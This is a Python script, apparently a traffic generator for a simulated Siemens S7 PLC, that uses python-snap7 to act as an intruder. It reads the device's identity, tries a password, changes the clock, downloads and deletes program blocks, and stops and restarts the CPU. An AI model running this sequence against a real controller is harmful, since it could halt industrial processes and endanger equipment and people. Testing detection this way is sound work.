"""What an intruder with an engineering tool does to an S7 PLC (python-snap7's client): reads its
identity, tries the protection password, sets its clock, downloads a block, deletes one, and
stops and restarts the CPU. Each call may be refused by the server; the request is on the wire."""
import datetime
import sys

import snap7
from snap7.type import Block

client = snap7.client.Client()
client.connect(sys.argv[1], 0, 2)


def attempt(name, call):
    try:
        call()
        print(f"s7 {name}: sent")
    except Exception as e:  # the stand-in answers some services with errors
        print(f"s7 {name}: {e}")


attempt("read SZL", lambda: client.read_szl(0x0011, 0))
attempt("password", lambda: client.set_session_password("s3cret"))
attempt("set clock", lambda: client.set_plc_datetime(datetime.datetime(2026, 1, 1, 3, 0, 0)))
attempt("download", lambda: client.download(bytearray(b"\x70\x70" + bytes(100)), 5))
attempt("delete block", lambda: client.delete(Block.OB, 1))
attempt("stop", client.plc_stop)
attempt("hot start", client.plc_hot_start)
client.disconnect()
